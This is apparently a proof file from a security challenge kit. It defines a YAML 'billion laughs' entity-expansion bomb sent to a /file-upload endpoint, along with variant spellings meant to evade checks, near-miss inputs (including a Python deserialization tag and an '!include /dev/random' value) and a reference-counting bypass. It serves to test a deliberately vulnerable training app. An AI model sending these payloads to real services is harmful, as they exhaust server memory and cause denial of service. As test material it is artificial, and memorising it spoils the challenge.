import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

function send(attacker: Attacker, document: string, name = 'order.yml', field = 'file') {
  const form = new FormData()
  form.append(field, new Blob([document]), name)
  return attacker.post('/file-upload', form, { headers: { accept: 'application/json' } })
}

const sending =
  (document: string, name?: string): Attack =>
  (attacker) =>
    send(attacker, document, name)

/** A list that repeats the anchor `name` `count` times. */
const times = (count: number, name: string) => `[${Array(count).fill(`*${name}`).join(', ')}]`

/** Lists of which each contains the previous one `each` times. */
const levels = (count: number, each: number) =>
  `l0: &l0 [juice]\n${Array.from({ length: count }, (_, i) => `l${i + 1}: &l${i + 1} ${times(each, `l${i}`)}\n`).join('')}`

const NINE_OF_NINE = levels(9, 9)
const THIRTY_OF_TWO = levels(30, 2)
const FIELDS = Array.from({ length: 9 }, (_, i) => `k${i}: *FROM`).join(', ')
/** The same with fields of objects instead of list items. */
const OBJECTS = `m0: &m0 {k: juice}\n${Array.from({ length: 9 }, (_, i) => `m${i + 1}: &m${i + 1} {${FIELDS.replaceAll('FROM', `m${i}`)}}\n`).join('')}`
const BLOCKS = `l0: &l0\n  - juice\n${Array.from({ length: 9 }, (_, i) => `l${i + 1}: &l${i + 1}\n${`  - *l${i}\n`.repeat(9)}`).join('')}`

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await send(attacker, 'address: &home Orchard Road 1\nsend: *home\nbill: *home')
    await send(attacker, NINE_OF_NINE)
  },
  spellings: {
    'thirty levels of two': sending(THIRTY_OF_TWO),
    'a list in each line': sending(BLOCKS),
    'objects in objects': sending(OBJECTS),
    'a long text again and again': sending(`a: &a "${'x'.repeat(40_000)}"\nb: ${times(8000, 'a')}`),
    'one document without names': sending(
      `[&a [juice], ${Array.from({ length: 9 }, (_, i) => `&${'bcdefghij'[i]} ${times(9, 'abcdefghij'[i]!)}`).join(', ')}]`,
    ),
    'with the other ending, in capitals': sending(NINE_OF_NINE, 'ORDER.YAML'),
    'behind a byte order mark': sending(`\uFEFF${NINE_OF_NINE}`),
    'behind a directive': sending(`%YAML 1.2\n---\n${NINE_OF_NINE}...\n`),
    'as nulls, which are short': sending(`n: &n ~\nl0: &l0 ${times(1000, 'n')}\nl1: ${times(1000, 'l0')}`),
  },
  nearMisses: {
    'an ordinary order': sending('order:\n  - product: 1\n    quantity: 12'),
    'an address that is written once': sending('home: &home Orchard Road 1\nsend: *home\nbill: *home'),
    'a bomb with too little powder': sending(levels(4, 9)),
    'a long order that refers to nothing': sending('- {product: 1, quantity: 12}\n'.repeat(3000)),
    'a list that holds itself': sending('&a [*a]'),
    'lists in lists in lists': sending(`${'['.repeat(300)}${']'.repeat(300)}`),
    'names that nobody has declared': sending(`l: ${times(9, 'nobody')}`),
    'the bomb as a text': sending(`|\n${NINE_OF_NINE.replace(/^/gm, '  ')}`),
    'something that is no YAML': sending('a: [1, 2'),
    'a program': sending('f: !!python/object/apply:time.sleep [2]'),
    'the bomb as a PDF': sending(NINE_OF_NINE, 'order.yml.pdf'),
    'the bomb as XML': sending(NINE_OF_NINE, 'order.xml'),
    'the bomb in a field that nobody reads': (attacker) => send(attacker, NINE_OF_NINE, 'order.yml', 'order'),
    'the bomb in a document that is too large': sending(NINE_OF_NINE + ' '.repeat(200_000)),
    'a device that never ends, which XML would read': sending('a: !include /dev/random'),
  },
  bypasses: {
    'count-the-references': sending(THIRTY_OF_TWO),
  },
})
